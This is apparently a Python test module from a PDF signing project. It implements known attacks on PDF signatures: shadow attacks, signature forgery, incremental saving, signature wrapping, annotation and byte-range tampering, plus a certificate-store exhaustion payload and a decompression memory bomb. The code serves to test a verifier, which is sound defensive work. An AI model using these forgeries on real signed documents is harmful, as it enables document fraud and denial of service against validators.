"""Attacks on own signed papers, each a function from a signed PDF to a forged one; never run on anything foreign.

Names follow the literature: shadow attacks (hide, replace, hide-and-replace), universal signature forgery (USF),
incremental saving (ISA), signature wrapping (SWA), evil annotations (EAA).
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from tests.token_signing.signing_papers import with_content_added, written
from token_signing.fields import AGENCY_FIELD, NUMBER_FIELD

Attack = Callable[[bytes], bytes]
CONTENT = b"BT /F1 12 Tf 100 500 Td (DA SUA) Tj ET"


def opened(pdf: bytes) -> IncrementalPdfFileWriter:
    """A writer that appends to the paper."""
    return IncrementalPdfFileWriter(io.BytesIO(pdf))


def fields_of(writer: IncrementalPdfFileWriter) -> dict[str, generic.DictionaryObject]:
    """Fields of the form by name."""
    fields = (one.get_object() for one in writer.root["/AcroForm"]["/Fields"])
    return {str(one["/T"]): one for one in fields}


def signature_of(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    """The first signature field that is signed."""
    return next(one for one in fields_of(writer).values() if one["/FT"] == "/Sig" and "/V" in one)


def first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    """The first page."""
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    assert isinstance(page, generic.DictionaryObject)
    return page


def form(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    """A form XObject that covers what lies under it."""
    box = generic.ArrayObject([generic.NumberObject(edge) for edge in (0, 0, 300, 100)])
    entries = {"/Type": "/XObject", "/Subtype": "/Form"}
    stream = generic.StreamObject(
        {generic.pdf_name(key): generic.pdf_name(value) for key, value in entries.items()}
        | {generic.pdf_name("/BBox"): box},
        stream_data=b"1 1 1 rg 0 0 300 100 re f",
    )
    return writer.add_object(stream)


def named(entries: dict[str, generic.PdfObject]) -> generic.DictionaryObject:
    """A dictionary from plain keys."""
    return generic.DictionaryObject({generic.pdf_name(key): value for key, value in entries.items()})


def annotation(writer: IncrementalPdfFileWriter, subtype: str, **more: generic.PdfObject) -> bytes:
    """An annotation put on the first page."""
    rectangle = generic.ArrayObject([generic.NumberObject(edge) for edge in (90, 690, 390, 720)])
    kind = {"/Type": generic.pdf_name("/Annot"), "/Subtype": generic.pdf_name(subtype), "/Rect": rectangle}
    note = writer.add_object(named({**kind, "/AP": named({"/N": form(writer)}), **more}))
    page = first_page(writer)
    page[generic.pdf_name("/Annots")] = generic.ArrayObject([*page.get("/Annots", ()), note])
    writer.update_container(page)
    return written(writer)


def shadow_hide(pdf: bytes) -> bytes:
    """An image that hid the text is taken away: here the page's content is replaced by an older one."""
    writer = opened(pdf)
    page = first_page(writer)
    page[generic.pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=CONTENT))
    writer.update_container(page)
    return written(writer)


def shadow_replace(pdf: bytes) -> bytes:
    """A prepared field (here the number) gets other content after the leader signed, and nobody signs that."""
    writer = opened(pdf)
    field = fields_of(writer)[NUMBER_FIELD]
    field[generic.pdf_name("/V")] = generic.pdf_string("50.000.000")
    field[generic.pdf_name("/AP")] = named({"/N": form(writer)})
    writer.update_container(field)
    return written(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """The catalogue points to other pages that lay in the signed file unused."""
    writer = opened(pdf)
    size = generic.ArrayObject([generic.NumberObject(edge) for edge in (0, 0, 595, 842)])
    other = named({"/Type": generic.pdf_name("/Page"), "/MediaBox": size})
    other[generic.pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=CONTENT))
    kids = generic.ArrayObject([writer.add_object(other)])
    pages = named({"/Type": generic.pdf_name("/Pages"), "/Kids": kids, "/Count": generic.NumberObject(1)})
    writer.root[generic.pdf_name("/Pages")] = writer.add_object(pages)
    writer.update_root()
    return written(writer)


def shadow_font(pdf: bytes) -> bytes:
    """The font of the page is exchanged, so that the same codes show other letters."""
    writer = opened(pdf)
    fonts = first_page(writer)["/Resources"]["/Font"]
    key = next(iter(fonts))
    fonts[key] = writer.add_object(named({"/Type": generic.pdf_name("/Font"), "/Subtype": generic.pdf_name("/Type3")}))
    writer.update_container(fonts)
    return written(writer)


def shared_resources(pdf: bytes) -> bytes:
    """The fonts that all form fields share are exchanged."""
    writer = opened(pdf)
    shape = writer.root["/AcroForm"]
    shape[generic.pdf_name("/DR")] = named({"/Font": named({"/Helv": form(writer)})})
    writer.update_container(shape)
    return written(writer)


def annotation_note(pdf: bytes) -> bytes:
    """A free text laid over the content (EAA)."""
    return annotation(opened(pdf), "/FreeText", **{"/Contents": generic.pdf_string("DA SUA")})


def annotation_link(pdf: bytes) -> bytes:
    """A link that was not there."""
    return annotation(opened(pdf), "/Link")


def annotation_film(pdf: bytes) -> bytes:
    """A film over the page."""
    return annotation(opened(pdf), "/Screen")


def attached(pdf: bytes) -> bytes:
    """A file attached after signing."""
    writer = opened(pdf)
    stream = writer.add_object(
        generic.StreamObject(named({"/Type": generic.pdf_name("/EmbeddedFile")}), stream_data=b"x")
    )
    spec = named(
        {"/Type": generic.pdf_name("/Filespec"), "/F": generic.pdf_string("a.txt"), "/EF": named({"/F": stream})}
    )
    names = generic.ArrayObject([generic.pdf_string("a.txt"), writer.add_object(spec)])
    writer.root[generic.pdf_name("/Names")] = named({"/EmbeddedFiles": named({"/Names": names})})
    writer.update_root()
    return written(writer)


def script(pdf: bytes) -> bytes:
    """A script that runs when the file is opened."""
    writer = opened(pdf)
    action = {"/S": generic.pdf_name("/JavaScript"), "/JS": generic.pdf_string("app.alert(1)")}
    writer.root[generic.pdf_name("/OpenAction")] = named(action)
    writer.update_root()
    return written(writer)


def title_changed(pdf: bytes) -> bytes:
    """Another title in the document information."""
    writer = opened(pdf)
    writer.set_info(writer.add_object(named({"/Title": generic.pdf_string("QUYET DINH")})))
    return written(writer)


def metadata_changed(pdf: bytes) -> bytes:
    """Other XMP metadata."""
    writer = opened(pdf)
    kind = named({"/Type": generic.pdf_name("/Metadata"), "/Subtype": generic.pdf_name("/XML")})
    writer.root[generic.pdf_name("/Metadata")] = writer.add_object(generic.StreamObject(kind, stream_data=b"<x/>"))
    writer.update_root()
    return written(writer)


def field_added(pdf: bytes) -> bytes:
    """One more text field."""
    writer = opened(pdf)
    rectangle = generic.ArrayObject([generic.NumberObject(edge) for edge in (90, 690, 390, 720)])
    kind = {"/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Tx"}
    field = named({key: generic.pdf_name(value) for key, value in kind.items()})
    field[generic.pdf_name("/T")] = generic.pdf_string("them")
    field[generic.pdf_name("/V")] = generic.pdf_string("50.000.000")
    field[generic.pdf_name("/Rect")] = rectangle
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(writer.add_object(field))
    writer.update_container(fields)
    return written(writer)


def stamp_exchanged(pdf: bytes) -> bytes:
    """The picture of a signature that is already made is exchanged."""
    writer = opened(pdf)
    field = signature_of(writer)
    field[generic.pdf_name("/AP")] = named({"/N": form(writer)})
    writer.update_container(field)
    return written(writer)


def field_moved(pdf: bytes) -> bytes:
    """A prepared field is laid over the text."""
    writer = opened(pdf)
    field = fields_of(writer)[AGENCY_FIELD]
    field[generic.pdf_name("/Rect")] = generic.ArrayObject([generic.NumberObject(edge) for edge in (0, 0, 595, 842)])
    writer.update_container(field)
    return written(writer)


def signature_removed(pdf: bytes) -> bytes:
    """The value of the signature field is taken out in a further revision."""
    writer = opened(pdf)
    field = signature_of(writer)
    del field["/V"]
    writer.update_container(field)
    return written(writer)


def form_removed(pdf: bytes) -> bytes:
    """The whole form, and with it every signature, is taken out of the catalogue."""
    writer = opened(pdf)
    del writer.root["/AcroForm"]
    writer.update_root()
    return written(writer)


def usf_no_contents(pdf: bytes) -> bytes:
    """USF: the signature has no content."""
    return pdf.replace(b"/Contents <", b"/Contentz <")


def usf_no_range(pdf: bytes) -> bytes:
    """USF: the signature has no range."""
    return pdf.replace(b"/ByteRange", b"/ByteRangf")


def usf_empty_contents(pdf: bytes) -> bytes:
    """USF: the content is an empty string; the digits stand in a comment."""
    at = pdf.rindex(b"/Contents <") + len(b"/Contents <")
    return pdf[:at] + b">%" + pdf[at + 2 :]


def usf_zero_contents(pdf: bytes) -> bytes:
    """USF: the content is nothing but zeros."""
    at = pdf.rindex(b"/Contents <") + len(b"/Contents <")
    end = pdf.index(b">", at)
    return pdf[:at] + b"0" * (end - at) + pdf[end:]


def range_with(numbers: Callable[[list[int]], list[int]]) -> Attack:
    """A byte range with other numbers, of the same length in the file."""

    def attack(pdf: bytes) -> bytes:
        found = list(re.finditer(rb"/ByteRange \[\s*(\d+) (\d+) (\d+) (\d+)\s*\]", pdf))[-1]
        text = " ".join(map(str, numbers([int(one) for one in found.groups()]))).encode()
        body = b"/ByteRange [" + text.ljust(found.end() - found.start() - 13) + b"]"
        return pdf[: found.start()] + body + pdf[found.end() :]

    return attack


def swa_wrapped(pdf: bytes) -> bytes:
    """SWA: the second part of the range is moved to the end of the file, other objects stand in between."""
    found = list(re.finditer(rb"/ByteRange \[\s*(\d+) (\d+) (\d+) (\d+)\s*\]", pdf))[-1]
    _, first, second, length = (int(one) for one in found.groups())
    extra = b"\n9999 0 obj\n<< /Type /Catalog >>\nendobj\n"
    moved = range_with(lambda numbers: [0, first, second + len(extra), length])(pdf)
    return moved[:second] + extra + moved[second:]


def isa_bare_objects(pdf: bytes) -> bytes:
    """ISA: objects appended with neither table nor trailer; readers that mend files show them."""
    return pdf + b"\n4 0 obj\n<< /Length 38 >>\nstream\n" + CONTENT + b"\nendstream\nendobj\n"


def isa_bare_trailer(pdf: bytes) -> bytes:
    """ISA: objects and a trailer without a table, the end mark but no start of a table."""
    return isa_bare_objects(pdf) + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def isa_whole_update(pdf: bytes) -> bytes:
    """ISA: an ordinary further revision with other content."""
    return with_content_added(pdf)


def object_stream(pdf: bytes) -> bytes:
    """The page is overridden from an object stream of a further revision."""
    reader = PdfFileReader(io.BytesIO(pdf))
    page = reader.root["/Pages"]["/Kids"].raw_get(0).reference.idnum
    free, start = int(reader.trailer["/Size"]), pdf.rindex(b"startxref")
    before = int(pdf[start:].split()[1])
    body = b"<< /Type /Page /Parent 9999 0 R /MediaBox [0 0 595 842] >>"
    packed = zlib.compress(f"{page} 0 ".encode() + body)
    kind = f"/Type /ObjStm /N 1 /First {len(f'{page} 0 ')} /Length {len(packed)} /Filter /FlateDecode"
    head = f"\n{free} 0 obj\n<< {kind} >>"
    objects = head.encode() + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    at = len(pdf) + 1
    table_at = len(pdf) + len(objects)
    rows = b"".join(
        kind.to_bytes(1, "big") + one.to_bytes(4, "big") + two.to_bytes(2, "big")
        for kind, one, two in ((2, free, 0), (1, at, 0), (1, table_at, 0))
    )
    root = reader.trailer.raw_get("/Root").reference.idnum
    table = (
        f"{free + 1} 0 obj\n<< /Type /XRef /Size {free + 2} /W [1 4 2] /Index [{page} 1 {free} 2] /Root {root} 0 R "
        f"/Prev {before} /Length {len(rows)} >>\nstream\n"
    ).encode()
    return pdf + objects + table + rows + f"\nendstream\nendobj\nstartxref\n{table_at}\n%%EOF\n".encode()


def store_without_end(pdf: bytes, certificate_der: bytes) -> bytes:
    """A security store that names one certificate four hundred thousand times: reading it outlasts every patience."""
    writer = opened(pdf)
    one = writer.add_object(generic.StreamObject(stream_data=certificate_der))
    store = writer.add_object(named({"/Certs": generic.ArrayObject([one] * 400_000)}))
    writer.root[generic.pdf_name("/DSS")] = store
    writer.update_root()
    return written(writer)


def memory_bomb(_pdf: bytes) -> bytes:
    """A table of some megabytes that unfolds to more memory than a check may have; its reader stops before."""
    megabytes, block = 1600, zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = block.compress(bytes(16 << 20)) + block.flush(zlib.Z_FULL_FLUSH)
    table = b"\x78\xda" + zeros * (megabytes // 16) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    length = (megabytes << 20) % 65521
    table += (length << 16 | 1).to_bytes(4, "big")  # Adler-32 of so many zeros
    head = f"/Type /XRef /Size 2 /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length {len(table)}"
    stream = f"2 0 obj\n<<{head}>>\nstream\n".encode() + table + b"\nendstream\nendobj\n"
    begin = b"%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\n"
    return begin + stream + f"startxref\n{len(begin)}\n%%EOF\n".encode()


def flipped(pdf: bytes) -> bytes:
    """One letter of the page is another."""
    return pdf.replace(b"GIAY XAC NHAN", b"GIAY XAC NHAM")


def time_changed(pdf: bytes) -> bytes:
    """The claimed time is another: it stands in the signed range."""
    return pdf.replace(b"D\\07220190314", b"D\\07220180314", 1)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(shadow_hide, shadow_replace, shadow_hide_and_replace, shadow_font, shared_resources),
        *(annotation_note, annotation_link, annotation_film, attached, script, title_changed, metadata_changed),
        *(field_added, stamp_exchanged, field_moved, signature_removed, form_removed),
        *(usf_no_contents, usf_no_range, usf_empty_contents, usf_zero_contents),
        *(swa_wrapped, isa_bare_objects, isa_bare_trailer, isa_whole_update, object_stream, flipped, time_changed),
    )
} | {
    "range_short": range_with(lambda n: [n[0], n[1], n[2], n[3] - 10]),
    "range_late": range_with(lambda n: [1, n[1] - 1, n[2], n[3]]),
    "range_wide_gap": range_with(lambda n: [n[0], n[1] - 9, n[2], n[3]]),
    "range_overlapping": range_with(lambda n: [n[0], n[1], n[1], n[3]]),
    "range_beyond": range_with(lambda n: [n[0], n[1], n[2], n[3] + 5]),
    "range_empty": range_with(lambda n: [0, 0, 0, 0]),
}
